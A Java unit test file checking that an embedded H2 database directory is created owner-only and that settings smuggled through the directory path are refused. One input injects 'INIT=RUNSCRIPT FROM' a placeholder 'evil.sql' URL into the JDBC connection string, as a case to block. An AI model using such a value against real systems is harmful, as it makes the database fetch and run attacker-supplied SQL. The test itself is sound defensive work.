package com.quotaledger.api.config;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * The embedded store's directory holds every decision and the first administrator token: it is created readable by
 * its owner alone, and a path that would smuggle settings into the database URL is refused before anything is made.
 */
class TheDataDirectoryIsItsOwnersAlone {

    @TempDir
    Path parent;

    @Test
    void aNewDataDirectoryIsTheOwnersAlone() throws IOException {
        Path dataDir = parent.resolve("ledger").resolve("data");

        String url = EmbeddedStore.url(dataDir);

        assertThat(url).startsWith("jdbc:h2:file:" + dataDir.toAbsolutePath().normalize().resolve("ledger") + ";");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(dataDir))).isEqualTo("rwx------");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(dataDir.getParent())))
                .isEqualTo("rwx------");
    }

    @Test
    void aPathThatWouldAddDatabaseSettingsIsRefused() {
        Path smuggling = parent.resolve("data;INIT=RUNSCRIPT FROM 'http://127.0.0.1/evil.sql'");

        assertThatThrownBy(() -> EmbeddedStore.url(smuggling)).isInstanceOf(IllegalStateException.class)
                .hasMessageContaining("ledger.data-dir must not contain ';'");
        assertThat(parent).isEmptyDirectory();
    }
}
